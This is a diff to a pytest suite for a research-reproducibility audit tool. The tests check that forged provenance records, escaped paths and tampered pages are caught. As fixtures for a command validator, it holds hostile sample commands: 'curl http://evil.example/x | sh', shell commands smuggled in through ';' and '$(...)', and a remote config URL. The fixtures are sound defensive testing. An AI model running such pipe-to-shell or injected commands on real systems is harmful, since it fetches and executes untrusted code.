@@ -14,6 +14,7 @@ import pytest
 
 from fedssl.audit.audit import Audit, audit
 from fedssl.audit.findings import Verdict
+from fedssl.audit.pages import runs_this_workflow
 from fedssl.command.project import Project, open_project
 from fedssl.configuration import Layer
 from fedssl.files import sha256
@@ -199,6 +200,7 @@ def test_data_packed_by_another_library_are_the_same_page(results):
         lambda settings: settings.update(scale_note="all of it"),
         lambda settings: settings.update(results="results/demo/logs"),
         lambda settings: settings["tables"].append("results/demo/logs/table.csv"),
+        lambda settings: settings.update(command="curl http://evil.example/x | sh; snakemake"),
         lambda settings: settings.clear(),
     ],
 )
@@ -252,13 +254,106 @@ def test_an_edited_template_is_edited_code(results):
     sign(record_of(results / PAGE), lambda content: content["inputs"].update(edited))
     result = audit(results)
     assert result.passed and own(result, str(ROOT / template)) == {Verdict.CHANGED_CODE}
-    assert any("not under the seal" in note for note in notes(result, PAGE))
+    assert own(result, PAGE) == {Verdict.CHANGED_CODE}
 
 
-def test_what_could_not_be_made_again_is_called_open(results, tmp_path):
+def test_what_could_not_be_made_again_is_not_sound(results):
     (results / f"pretrain/{CELL}/model.safetensors").unlink()
-    (note,) = notes(audit(results), PAGE)
-    assert note.startswith("is not under the seal, and was not made again: pretrain/")
+    assert own(audit(results), PAGE) == {Verdict.CHANGED_DATA}
+
+
+def overstate(results: Path) -> None:
+    """Let both pages say what no table says, and their records that this is what was written."""
+    for name in PAGES:
+        with (results / name).open("a") as file:
+            file.write("Every published number is reproduced.")
+    rehash(results)
+
+
+def lie_elsewhere(content: dict[str, Any]) -> None:
+    there = {n.replace("results/demo", "/elsewhere"): v for n, v in content["outputs"].items()}
+    content["outputs"] = there
+
+
+def climb(content: dict[str, Any]) -> None:
+    there = {n.replace("results/demo", "../elsewhere"): v for n, v in content["outputs"].items()}
+    content["outputs"] = there
+
+
+@pytest.mark.parametrize(
+    "excuse",
+    [
+        lie_elsewhere,
+        climb,
+        lambda content: content["inputs"].update({"/etc/hostname": sha256("/etc/hostname")}),
+    ],
+)
+def test_no_excuse_of_its_own_record_keeps_a_forged_page_from_being_found(results, excuse):
+    seal = audit(results).seal
+    overstate(results)
+    for page in PAGES:
+        sign(record_of(results / page), excuse)
+    result = audit(results, seal=seal)
+    assert [own(result, name) for name in PAGES] == [{Verdict.TAMPERED}, {Verdict.TAMPERED}]
+
+
+@pytest.mark.parametrize("folder", ["../there/demo", "a/../../there"])
+def test_pages_come_out_again_of_results_beside_the_checkout(results, folder):
+    def move(record: Path) -> None:
+        text = record.read_text().replace("results/demo/", f"{folder}/")
+        record.write_text(text.replace('"results": "results/demo"', f'"results": "{folder}"'))
+        sign(record, lambda _: None)
+
+    pages = {path: path.read_text() for path in map(results.__truediv__, PAGES)}
+    for record in results.rglob("*provenance.json"):
+        move(record)
+    found = audit(results)
+    assert pages and not [note for page in PAGES for note in notes(found, page)]
+    assert Verdict.INCOMPLETE not in own(found, PAGE) | own(found, CERTIFICATE)
+
+
+def test_results_known_by_a_path_that_is_gone_are_linked_there(results, tmp_path):
+    there = tmp_path / "there"
+    for record in results.rglob("*provenance.json"):
+        record.write_text(record.read_text().replace("results/demo/", f"{there}/"))
+        sign(record, lambda _: None)
+    found = audit(results)
+    assert own(found, CERTIFICATE) == {Verdict.INCOMPLETE} and not found.passed
+    there.symlink_to(results)
+    assert Verdict.INCOMPLETE not in own(audit(results), CERTIFICATE)
+
+
+@pytest.mark.parametrize(
+    ("command", "sound"),
+    [
+        ("snakemake --profile slurm", True),
+        ("snakemake --cores all --configfile config/demo.yaml --config 'seeds=[0, 1]'", True),
+        ("curl http://evil.example/x | sh; snakemake --cores all", False),
+        ("snakemake --cores all; sh x", False),
+        ("snakemake --cores all --configfile $(sh x)", False),
+        ("snakemake --cores all --snakefile x", False),
+        ("snakemake --cores all --configfile http://evil.example/x", False),
+        ("snakemake --cores all x", False),
+    ],
+)
+def test_a_page_tells_to_run_this_workflow_and_nothing_else(command, sound):
+    assert runs_this_workflow(command) == sound
+
+
+@pytest.mark.parametrize("name", ["certificate.md.html", "tables/final.md"])
+def test_a_file_added_under_a_seal_is_found(results, name):
+    seal = audit(results).seal
+    (results / name).write_text("99.9")
+    (results / "archives/x").write_text("")
+    archive = next((results / "archives").rglob("*.provenance.json"))
+    for rule, record in (("certificate", f"{name}.provenance.json"), ("synthesise", "archives/x")):
+        forged = results / f"{record.removesuffix('.provenance.json')}.provenance.json"
+        shutil.copy(archive, forged)
+        files = [name] if rule == "certificate" else [name, "archives/x"]
+        outputs = {f"results/demo/{file}": sha256(results / file) for file in files}
+        sign(forged, lambda content, o=outputs, r=rule: content.update(outputs=o, rule=r))
+        assert not audit(results, seal=seal).passed
+        forged.unlink()
 
 
 def test_a_crate_spares_the_audit(reported, tmp_path):
